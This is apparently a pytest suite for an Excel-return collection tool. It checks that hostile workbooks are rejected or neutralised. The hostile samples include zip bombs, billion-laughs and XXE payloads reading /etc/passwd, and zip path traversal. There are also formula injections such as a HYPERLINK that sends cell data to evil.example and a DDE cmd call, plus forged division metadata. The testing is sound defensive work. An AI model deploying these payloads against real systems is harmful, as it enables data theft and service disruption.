"""Hostile and broken input: every file gets a verdict and a Chinese message, nothing in the
inbox changes, no file speaks for another division, and no traceback ever appears.

The corpus is generated here from real forms, so each case differs from a good
return in exactly one way.
"""

from __future__ import annotations

import io
import os
import re
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from xlflow.files import folder_lock
from xlflow.intake.judge import process_file as intake_process_file

from .conftest import (
    DEFAULT_ROUND,
    GOOD_CONTACT,
    WINE,
    complete_values,
    crash_natively,
    fill,
    fill_complete,
    run,
    run_json,
    task_rows,
    tree_digest,
)

PLAN = "政策规划处"
CO = "创新平台与合作处"


@pytest.fixture
def good(ws: Path, forms: dict[str, Path]) -> Path:
    """A complete, valid return of 政策规划处, outside the inbox."""
    return fill_complete(forms[PLAN], ws / "staging" / "good.xlsx")


@pytest.fixture
def collect_guarded(ws: Path) -> Iterator[Callable[[], dict[str, dict[str, Any]]]]:
    """Collect, checking that the inbox is byte-for-byte the same before and after."""

    def go() -> dict[str, dict[str, Any]]:
        before = tree_digest(ws / "inbox")
        result = run(["collect", "-w", str(ws), "--round", DEFAULT_ROUND, "--json"])
        assert "Traceback" not in result.output
        assert tree_digest(ws / "inbox") == before
        import json

        return {f["path"]: f for f in json.loads(result.output)["files"]}

    yield go


def _calamine_cells(path: Path, sheet: str) -> list[Any]:
    """Every value of a sheet, read as Excel reads it (python-calamine decodes _xHHHH_)."""
    import python_calamine

    with python_calamine.CalamineWorkbook.from_path(str(path)) as book:
        rows = book.get_sheet_by_name(sheet).to_python()
    return [v for row in rows for v in row]


def _wrong_crc(data: bytes, member: str) -> bytes:
    """The package with `member`'s stored CRC-32 wrong, in its local header and in the
    central directory: its data inflates whole, and fails the check. (A byte flipped in the
    compressed data would do it too, or break the deflate stream instead, depending on the
    bytes the form happens to have.)"""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    local = info.header_offset
    assert out[local : local + 4] == b"PK\x03\x04"
    out[local + 14] ^= 0xFF  # the local header's CRC-32
    name = member.encode()
    at = data.index(b"PK\x01\x02")  # the central directory's entries, one after another
    while data[at + 46 : at + 46 + len(name)] != name or int.from_bytes(
        data[at + 28 : at + 30], "little"
    ) != len(name):
        at = data.index(b"PK\x01\x02", at + 4)
    out[at + 16] ^= 0xFF  # the central directory's CRC-32 of it
    return bytes(out)


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def _write_zip(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _task_sheet_member(members: dict[str, bytes], sheet: str = "填报") -> str:
    workbook = members["xl/workbook.xml"].decode()
    rid = re.search(rf'<sheet [^>]*name="{sheet}"[^>]*r:id="(rId\d+)"', workbook)
    if rid is None:
        rid = re.search(rf'<sheet [^>]*r:id="(rId\d+)"[^>]*name="{sheet}"', workbook)
    assert rid
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
        rf'Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels
    )
    assert target
    return "xl/" + target.group(1).lstrip("/").removeprefix("xl/")


def _holding(members: dict[str, bytes], text: str) -> str:
    """The part that stores `text`: openpyxl writes strings inline as character references,
    Excel in sharedStrings.xml as UTF-8."""
    forms = (text.encode(), text.encode("ascii", "xmlcharrefreplace"))
    return next(n for n, data in members.items() if any(f in data for f in forms))


def _one(files: dict[str, dict[str, Any]], name: str) -> dict[str, Any]:
    entry = files[name]
    assert entry["issues"], entry
    for issue in entry["issues"]:
        assert re.search(r"[\u4e00-\u9fff]", issue["message"]), issue  # a Chinese message
    return entry


def _codes(entry: dict[str, Any]) -> list[str]:
    return [i["code"] for i in entry["issues"]]


# --- 1. not a workbook ---


def test_not_workbooks(
    ws: Path, good: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    inbox = ws / "inbox"
    (inbox / "文本.xlsx").write_text("这不是表格\n第二行", encoding="utf-8")
    (inbox / "网页.xls").write_text("<html><body><table><tr><td>1</td></tr></table></body></html>")
    (inbox / "空.xlsx").write_bytes(b"")
    (inbox / "导出.xlsx").write_text("序号,完成状态\n5,已完成\n", encoding="gb18030")
    data = good.read_bytes()
    (inbox / "截断.xlsx").write_bytes(data[: len(data) // 2])
    (inbox / "校验和错误.xlsx").write_bytes(_wrong_crc(data, _task_sheet_member(_members(good))))
    import docx

    document = docx.Document()
    document.add_paragraph("进展情况说明")
    buf = io.BytesIO()
    document.save(buf)
    (inbox / "说明.xlsx").write_bytes(buf.getvalue())
    files = collect_guarded()
    expected = {
        "文本.xlsx": ("not-a-workbook", "纯文本"),
        "网页.xls": ("not-a-workbook", "网页"),
        "空.xlsx": ("empty-file", "空的"),
        "导出.xlsx": ("not-a-workbook", "CSV"),
        "截断.xlsx": ("corrupt-file", "损坏"),
        "校验和错误.xlsx": ("malformed-part", "校验和（CRC）不符"),  # the part is named
        "说明.xlsx": ("not-a-workbook", "Word"),
    }
    for name, (code, words) in expected.items():
        entry = _one(files, name)
        assert entry["verdict"] == "rejected", name
        assert _codes(entry) == [code], name
        assert words in entry["issues"][0]["message"], name


# --- 2. zip bombs ---


def test_zip_bombs_are_rejected_unread(
    ws: Path, good: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    members = _members(good)
    # one member far too large once inflated
    bomb = dict(members)
    bomb["xl/worksheets/sheet9.xml"] = b"\0" * (210 * 1024 * 1024)
    _write_zip(ws / "inbox" / "炸弹.xlsx", bomb)
    # a ratio far above any real workbook
    ratio = dict(members)
    ratio["xl/media/pad.bin"] = b"A" * (8 * 1024 * 1024)
    _write_zip(ws / "inbox" / "压缩比.xlsx", ratio)
    # thousands of members
    many = dict(members)
    many.update({f"xl/x/{n}.xml": b"<a/>" for n in range(1200)})
    _write_zip(ws / "inbox" / "部件多.xlsx", many)
    files = collect_guarded()
    for name, words in (
        ("炸弹.xlsx", "max_uncompressed_mb"),
        ("压缩比.xlsx", "max_compression_ratio"),
        ("部件多.xlsx", "max_zip_members"),
    ):
        entry = _one(files, name)
        assert entry["verdict"] == "rejected" and _codes(entry) == ["limit-exceeded"], name
        assert words in entry["issues"][0]["message"], name


# --- 3. billion laughs and external entities ---

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("kind", ["laughs", "xxe"])
@pytest.mark.parametrize("where", ["strings", "sheet", "xl/workbook.xml"])
def test_entity_attacks(
    ws: Path,
    good: Path,
    collect_guarded: Callable[[], dict[str, dict[str, Any]]],
    kind: str,
    where: str,
) -> None:
    members = _members(good)
    if where == "strings":
        # Excel keeps text in sharedStrings.xml; write one so the attack has a place to live
        members["xl/sharedStrings.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol3;</t></si></sst>'
        )
        member = "xl/sharedStrings.xml"
    else:
        member = _task_sheet_member(members) if where == "sheet" else where
    body = members[member]
    body = re.sub(rb"^<\?xml[^>]*\?>", b"", body)
    prolog = LAUGHS if kind == "laughs" else XXE
    members[member] = prolog + body
    _write_zip(ws / "inbox" / "攻击.xlsx", members)
    entry = _one(collect_guarded(), "攻击.xlsx")
    assert entry["verdict"] == "rejected" and _codes(entry) == ["unsafe-xml"]
    assert member in entry["issues"][0]["message"]  # the part is named


# --- 4. encrypted ---


def test_encrypted_workbook(
    ws: Path, good: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with open(good, "rb") as fh:
        OOXMLFile(fh).encrypt("1234", out)
    (ws / "inbox" / "加密.xlsx").write_bytes(out.getvalue())
    entry = _one(collect_guarded(), "加密.xlsx")
    assert entry["verdict"] == "rejected" and _codes(entry) == ["encrypted"]
    assert "密码" in entry["issues"][0]["message"]


# --- 5. macros ---


def test_xlsm_with_macros_is_accepted_with_a_warning(
    ws: Path, good: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    members = _members(good)
    members["xl/vbaProject.bin"] = (
        b"\xd0\xcf\x11\xe0" + b'Attribute VB_Name = "Module1"\nShell "calc"' * 20
    )
    _write_zip(ws / "inbox" / "宏.xlsm", members)
    entry = _one(collect_guarded(), "宏.xlsm")
    assert entry["verdict"] == "accepted" and "macros-present" in _codes(entry)


# --- 6. huge used ranges and extra rows ---


def test_enormous_used_range_is_rejected_before_reading(
    ws: Path, good: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    members = _members(good)
    sheet = _task_sheet_member(members)
    huge = dict(members)
    huge[sheet] = re.sub(
        rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', members[sheet]
    )
    _write_zip(ws / "inbox" / "范围.xlsx", huge)
    far = dict(members)
    far[sheet] = members[sheet].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
    )
    _write_zip(ws / "inbox" / "远处单元格.xlsx", far)
    files = collect_guarded()
    # a declared range is formatting's reach (WPS writes A1:XFD…): the cells decide
    assert files["范围.xlsx"]["verdict"] == "accepted", files["范围.xlsx"]
    entry = _one(files, "远处单元格.xlsx")
    assert entry["verdict"] == "rejected" and _codes(entry) == ["limit-exceeded"]
    assert "第 1048576 行" in entry["issues"][0]["message"]
    assert "XFD1048576" in entry["issues"][0]["message"]


def test_fifty_thousand_extra_rows(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    def pad(wb: Any) -> None:
        sheet = wb["填报"]
        for r in range(100, 50100):
            sheet.cell(r, 9).value = "备注"

    fill(
        forms[PLAN],
        ws / "inbox" / "多行.xlsx",
        complete_values(forms[PLAN]),
        GOOD_CONTACT,
        edit=pad,
    )
    entry = _one(collect_guarded(), "多行.xlsx")
    assert entry["verdict"] == "rejected" and _codes(entry) == ["limit-exceeded"]
    message = entry["issues"][0]["message"]
    assert "第 50099 行" in message and "从 I10001 起超出" in message and "删除" in message


# --- 7. control characters ---


def test_control_characters(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    values = complete_values(forms[PLAN])
    values["5"]["进展情况"] = "MARK-CTRL"
    source = fill(forms[PLAN], ws / "staging" / "c.xlsx", values, GOOD_CONTACT)
    members = _members(source)
    part = _holding(members, "MARK-CTRL")
    # Excel's escape for a character XML cannot hold, as a program that pastes it writes it
    escaped = dict(members)
    escaped[part] = members[part].replace(b"MARK-CTRL", b"abc_x0007_def")
    _write_zip(ws / "inbox" / "控制字符.xlsx", escaped)
    raw = dict(members)
    raw[part] = members[part].replace(b"MARK-CTRL", b"abc\x07def")
    _write_zip(ws / "inbox" / "非法字符.xlsx", raw)
    files = collect_guarded()
    entry = _one(files, "控制字符.xlsx")
    assert entry["verdict"] == "rejected" and "invalid-characters" in _codes(entry)
    assert (
        "U+0007" in next(i for i in entry["issues"] if i["code"] == "invalid-characters")["message"]
    )
    # a raw control byte is not well-formed XML: the part is refused, and says which
    raw_entry = _one(files, "非法字符.xlsx")
    assert raw_entry["verdict"] == "rejected"
    assert _codes(raw_entry) == ["malformed-part"]
    assert "xl/worksheets/" in raw_entry["issues"][0]["message"]


# --- 8. very long text ---


def test_text_at_and_over_the_cell_limit(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    at_limit = complete_values(forms[PLAN])
    at_limit["5"]["下步打算"] = "长" * 32767
    fill(forms[PLAN], ws / "inbox" / "上限.xlsx", at_limit, GOOD_CONTACT)
    over = complete_values(forms[CO])
    over["5"]["下步打算"] = "超" * 32767
    over["6"]["进展情况"] = "多" * 2001
    staged = fill(forms[CO], ws / "staging" / "over.xlsx", over, GOOD_CONTACT)
    # openpyxl cuts text at the limit itself; a file from elsewhere can hold more
    members = _members(staged)
    run_of = "超".encode("ascii", "xmlcharrefreplace")
    part = _holding(members, "超" * 100)
    members[part] = members[part].replace(run_of * 32767, run_of * 32800, 1)
    _write_zip(ws / "inbox" / "超限.xlsx", members)
    files = collect_guarded()
    assert files["上限.xlsx"]["verdict"] == "accepted"
    entry = _one(files, "超限.xlsx")
    assert entry["verdict"] == "rejected"
    assert {"cell-text-limit", "too-long"} <= set(_codes(entry))
    run(["merge", "-w", str(ws), "--round", DEFAULT_ROUND])
    merged = next((ws / "outbox" / DEFAULT_ROUND).glob("*汇总*.xlsx"))
    detail = _calamine_cells(merged, "任务明细")
    cell = next(t for t in detail if isinstance(t, str) and t.startswith(f"【{PLAN}】长长"))
    # task 5 has two divisions, so the label pushes the text past the limit: shortened, visibly
    assert len(cell) == 32767 and cell.endswith("完整内容见来源文件）")
    problems = _calamine_cells(merged, "校验问题")
    assert any(isinstance(t, str) and "合并各处室内容后超过单元格上限" in t for t in problems)


# --- 9. odd names, links and unsafe members ---


def test_odd_file_names(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    inbox = ws / "inbox"
    rtl = "报送\u202excod.xlsx"
    fill_complete(forms[PLAN], inbox / rtl)
    emoji = "🎉 创新平台 （最终版）  .xlsx"
    fill_complete(forms[CO], inbox / emoji)
    # a name that is no text: bytes that are not UTF-8 on POSIX, a lone UTF-16 surrogate
    # on Windows (NTFS keeps it; Wine cannot make one)
    raw_name: bytes | str = (
        "\udcff-broken.xlsx"
        if sys.platform == "win32"
        else os.fsencode(inbox) + b"/\xff\xfe-broken.xlsx"
    )
    broken_made = True
    try:
        with open(inbox / raw_name if isinstance(raw_name, str) else raw_name, "wb") as fh:
            fh.write((ws / "inbox" / rtl).read_bytes())
    except OSError:
        assert sys.platform == "win32"
        broken_made = False
    long_name = "很长" * 40 + ".xlsx"  # 245 bytes: near the file-system limit
    fill_complete(forms["外国专家局"], inbox / long_name)
    files = collect_guarded()
    # a bidirectional override is stored and shown as a picture: it can reorder nothing
    assert "报送<U+202E>xcod.xlsx" in files and rtl not in files
    rtl = "报送<U+202E>xcod.xlsx"
    assert files[rtl]["division"] == PLAN and files[rtl]["verdict"] == "accepted"
    assert files[emoji]["division"] == CO and files[emoji]["verdict"] == "accepted"
    assert files[long_name]["verdict"] == "accepted"
    if broken_made:
        broken = next(p for p in files if p.endswith("-broken.xlsx"))
        assert files[broken]["verdict"] == "duplicate"  # same bytes as the RTL one
    run(["merge", "-w", str(ws), "--round", DEFAULT_ROUND])


def test_symlinks_are_never_followed(
    ws: Path, good: Path, tmp_path: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    inbox = ws / "inbox"
    secret_file = tmp_path / "outside.txt"
    secret_file.write_text("机密")
    # a shortcut Explorer made ("创建快捷方式"): the shell link header, then anything
    (inbox / "link-to-good.xlsx.lnk").write_bytes(
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
    )
    made = ["link-to-good.xlsx.lnk"]
    for name, target in (("passwd.xlsx", secret_file), ("link-to-good.xlsx", good), ("folder-link", tmp_path)):  # fmt: skip
        try:
            (inbox / name).symlink_to(target, target_is_directory=target.is_dir())
        except OSError:  # Windows without the symlink privilege
            assert sys.platform == "win32"
        if (inbox / name).is_symlink():  # Wine says it made one, and there is none
            made.append(name)
    assert len(made) == 4 or sys.platform == "win32"
    if sys.platform == "win32":  # the link any Windows user can make: mklink /J
        import _winapi

        try:
            _winapi.CreateJunction(str(tmp_path), str(inbox / "junction"))  # type: ignore[attr-defined]
            made.append("junction")
        except OSError:
            pass  # Wine 8 makes no junction either
    files = collect_guarded()
    for name in made:
        assert files[name]["verdict"] == "skipped" and _codes(files[name]) == ["skipped-symlink"], (
            name
        )


def test_zip_member_with_parent_path(
    ws: Path, good: Path, collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    members = _members(good)
    members["../../evil.txt"] = b"pwned"
    _write_zip(ws / "inbox" / "路径.xlsx", members)
    entry = _one(collect_guarded(), "路径.xlsx")
    assert entry["verdict"] == "rejected" and _codes(entry) == ["unsafe-zip-member"]
    assert not (ws / "evil.txt").exists() and not (ws.parent / "evil.txt").exists()


# --- 10. formula injection ---

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_injection_text_and_real_formulas(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    form = forms[CO]
    rows = task_rows(form)

    def as_text(wb: Any) -> None:
        sheet = wb["填报"]
        for n, tid in enumerate(["5", "6", "7", "8", "9", "20", "21"]):
            cell = sheet.cell(rows[tid], 11)
            cell.value = INJECTIONS[n] if not INJECTIONS[n].startswith("\r") else "MARK-CR"
            cell.data_type = "s"

    fill_complete(form, ws / "staging" / "text.xlsx", edit=as_text)
    members = _members(ws / "staging" / "text.xlsx")
    # a carriage return is stored as _x000D_ (a raw one would be read back as a line feed)
    part = _holding(members, "MARK-CR")
    members[part] = members[part].replace(b"MARK-CR", b"_x000D_=1+1")
    _write_zip(ws / "inbox" / "注入文本.xlsx", members)

    plan_rows = task_rows(forms[PLAN])

    def as_formulas(wb: Any) -> None:
        sheet = wb["填报"]
        sheet.cell(plan_rows["5"], 11).value = '=HYPERLINK("http://evil.example","点击")'
        sheet.cell(plan_rows["6"], 11).value = "=cmd|' /C calc'!A0"

    fill_complete(forms[PLAN], ws / "staging" / "f.xlsx", edit=as_formulas)
    members = _members(ws / "staging" / "f.xlsx")
    sheet = _task_sheet_member(members)
    xml = members[sheet].decode()
    xml = re.sub(
        rf'<c r="(K{plan_rows["5"]})"([^>]*)><f>(.*?)</f><v></v></c>',
        r'<c r="\1"\2 t="str"><f>\3</f><v>点击</v></c>',
        xml,
    )
    xml = re.sub(
        rf'<c r="(K{plan_rows["6"]})"([^>]*)><f>(.*?)</f><v></v></c>',
        r'<c r="\1"\2 t="str"><f>\3</f><v>0</v></c>',
        xml,
    )
    members[sheet] = xml.encode()
    _write_zip(ws / "inbox" / "公式.xlsx", members)
    files = collect_guarded()
    assert files["注入文本.xlsx"]["verdict"] == "accepted", files["注入文本.xlsx"]["issues"]
    formulas = files["公式.xlsx"]
    assert formulas["verdict"] == "accepted"
    assert _codes(formulas).count("formula-value-used") == 2
    run(["merge", "-w", str(ws), "--round", DEFAULT_ROUND])
    merged = next((ws / "outbox" / DEFAULT_ROUND).glob("*汇总*.xlsx"))
    with zipfile.ZipFile(merged) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name), name
    texts = [t for t in _calamine_cells(merged, "任务明细") if isinstance(t, str)]
    for text in INJECTIONS:
        assert any(text in t for t in texts), text
    assert any("点击" in t for t in texts)


# --- 11. identity attacks ---


def _strip_identity(members: dict[str, bytes]) -> dict[str, bytes]:
    return members


def test_metadata_deleted_visible_or_renamed(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    def delete_meta(wb: Any) -> None:
        del wb["_xlflow"]

    def show_meta(wb: Any) -> None:
        wb["_xlflow"].sheet_state = "visible"

    fill_complete(forms[PLAN], ws / "inbox" / "删除识别表.xlsx", edit=delete_meta)
    fill_complete(forms[CO], ws / "inbox" / "显示识别表.xlsx", edit=show_meta)
    fill_complete(forms["外国专家局"], ws / "inbox" / "政策规划处.xlsx")
    files = collect_guarded()
    deleted = files["删除识别表.xlsx"]
    assert (
        deleted["division"] == PLAN and deleted["verdict"] == "accepted"
    )  # names and properties remain
    shown = files["显示识别表.xlsx"]
    assert shown["verdict"] == "accepted" and "metadata-visible" in _codes(shown)
    renamed = files["政策规划处.xlsx"]
    assert renamed["division"] == "外国专家局" and renamed["verdict"] == "accepted"
    assert "filename-mismatch" in _codes(renamed)


def test_copied_form_with_division_changed_everywhere_is_rejected(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    def forge(wb: Any) -> None:
        for row in wb["_xlflow"].iter_rows():
            if row[0].value == "division":
                row[1].value = "外国专家局"
        del wb.defined_names["xlflow_division"]
        wb.defined_names["xlflow_division"] = DefinedName(
            "xlflow_division", attr_text='"外国专家局"'
        )
        for prop in wb.custom_doc_props.props:
            if prop.name == "xlflow.division":
                prop.value = "外国专家局"
        sheet = wb["填报"]
        sheet["A2"].value = "填报单位：外国专家局（盖章）"

    fill_complete(forms[PLAN], ws / "inbox" / "外国专家局.xlsx", edit=forge)
    files = collect_guarded()
    entry = _one(files, "外国专家局.xlsx")
    assert entry["verdict"] == "rejected" and _codes(entry) == ["signature-invalid"]
    status = run_json(["status", "-w", str(ws), "--round", DEFAULT_ROUND])
    assert "外国专家局" in status["missing"]


def test_a_form_cannot_change_another_divisions_rows(
    ws: Path, forms: dict[str, Path], collect_guarded: Callable[[], dict[str, dict[str, Any]]]
) -> None:
    """政策规划处 adds a row for task 17 (外国专家局's) to its own form."""

    def add_row(wb: Any) -> None:
        sheet = wb["填报"]
        r = max(task_rows(forms[PLAN]).values()) + 1
        sheet.insert_rows(r)
        sheet.cell(r, 1).value = "17"
        sheet.cell(r, 7).value = "已完成"
        sheet.cell(r, 8).value = 100
        sheet.cell(r, 9).value = "代为填报"

    fill_complete(forms[PLAN], ws / "inbox" / "p.xlsx", edit=add_row)
    fill_complete(forms["外国专家局"], ws / "inbox" / "f.xlsx", status="进度滞后")
    files = collect_guarded()
    assert files["p.xlsx"]["verdict"] == "rejected" and "task-foreign" in _codes(files["p.xlsx"])
    history = run_json(["history", "-w", str(ws), "--task", "17"])
    reports = history["tasks"][0]["rounds"][0]["reports"]
    assert [r["division"] for r in reports] == ["外国专家局"]


# --- isolation: a crash, a hang or runaway memory costs one file ---


def _slow_settings(ws: Path) -> None:
    path = ws / "xlflow.toml"
    text = path.read_text("utf-8")
    # Windows CPython under Wine is slower to start and read than Linux: its limit is wider
    limit = 10 if sys.platform == "win32" else 2
    text = text.replace("read_timeout_seconds = 30", f"read_timeout_seconds = {limit}")
    text = text.replace("worker_memory_mb = 1536", "worker_memory_mb = 256")
    path.write_text(text, "utf-8")


def _hostile_reader(ctx: Any, job: Any) -> Any:
    """Stands in for a native reader that aborts, loops or allocates without end; at module
    level, so that a spawned worker (Windows) imports it as a forked one has it."""
    if job.rel == "崩溃.xlsx":
        crash_natively()
    if job.rel == "卡死.xlsx":
        while True:
            pass
    if job.rel == "内存.xlsx":
        hog = []
        while True:
            hog.append(bytearray(64 * 1024 * 1024))
    return _REAL_PROCESS_FILE(ctx, job)


_REAL_PROCESS_FILE = intake_process_file


@pytest.mark.isolation
def test_crash_hang_and_memory_cost_only_that_file(
    ws: Path, forms: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from xlflow.intake import collect as intake
    from xlflow.workspace import Workspace

    _slow_settings(ws)
    inbox = ws / "inbox"
    for name in ("崩溃.xlsx", "卡死.xlsx", "内存.xlsx", "正常.xlsx"):
        fill_complete(forms[PLAN if name != "正常.xlsx" else CO], inbox / name)

    monkeypatch.setattr(intake, "process_file", _hostile_reader)
    before = tree_digest(inbox)
    report = intake.collect(Workspace.open(ws), DEFAULT_ROUND, workers=2)
    assert tree_digest(inbox) == before
    by = {f.path: f for f in report.files}
    assert [i.code.value for i in by["卡死.xlsx"].issues] == ["read-timeout"]
    if WINE:
        # In the Wine bed, in pytest's process alone, a worker that ends itself is seen
        # only when the read limit passes (the same collect from a script names the crash),
        # and Wine does not enforce the Job Object's memory cap: each still costs only its
        # own file (docs/install.md)
        for name in ("崩溃.xlsx", "内存.xlsx"):
            codes = [i.code.value for i in by[name].issues]
            assert codes in (["reader-crashed"], ["read-timeout"]), (name, codes)
    else:
        assert [i.code.value for i in by["崩溃.xlsx"].issues] == ["reader-crashed"]
        said = "0xC0000409" if sys.platform == "win32" else "SIGABRT"
        assert said in by["崩溃.xlsx"].issues[0].message
        assert [i.code.value for i in by["内存.xlsx"].issues] == ["reader-crashed"]
    assert by["正常.xlsx"].verdict.value == "accepted"


# --- nothing lost: locks ---


def test_a_second_collect_refuses_while_one_runs(ws: Path, forms: dict[str, Path]) -> None:
    fill_complete(forms[PLAN], ws / "inbox" / "p.xlsx")
    with folder_lock(ws / ".xlflow" / "lock", "测试中的收集"):
        result = run(["collect", "-w", str(ws), "--round", DEFAULT_ROUND], expect=3)
    assert "正被另一个 xlflow 命令使用" in result.output and "测试中的收集" in result.output
    assert not (ws / "outbox" / DEFAULT_ROUND / "receipts").exists()
    run(["collect", "-w", str(ws), "--round", DEFAULT_ROUND])


def test_secret_never_leaves_the_state_folder(ws: Path, forms: dict[str, Path]) -> None:
    fill_complete(forms[PLAN], ws / "inbox" / "p.xlsx")
    run(["collect", "-w", str(ws), "--round", DEFAULT_ROUND])
    run(["merge", "-w", str(ws), "--round", DEFAULT_ROUND])
    run(["remind", "-w", str(ws), "--round", DEFAULT_ROUND])
    secret = (ws / ".xlflow" / "secret").read_text().strip()
    assert len(secret) == 64
    for path in [*(ws / "outbox").rglob("*"), ws / ".xlflow" / "ledger.sqlite"]:
        if not path.is_file():
            continue
        data = path.read_bytes()
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as zf:
                data = b"".join(zf.read(n) for n in zf.namelist())
        assert secret.encode() not in data, path
        assert bytes.fromhex(secret) not in data, path
